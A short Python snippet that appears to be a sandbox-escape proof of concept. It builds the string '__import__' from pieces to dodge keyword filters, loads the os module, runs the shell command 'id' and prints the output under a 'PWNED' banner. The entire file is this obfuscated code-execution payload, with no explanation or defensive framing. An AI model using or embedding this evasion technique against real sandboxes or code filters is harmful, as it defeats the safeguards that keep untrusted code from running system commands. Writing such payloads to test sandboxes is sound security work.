import numpy as np
b = __builtins__
f = b["__imp" + "ort__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
os_ = f("os", globals(), globals(), [])
print("PW" + "NED:", os_.system("id"))
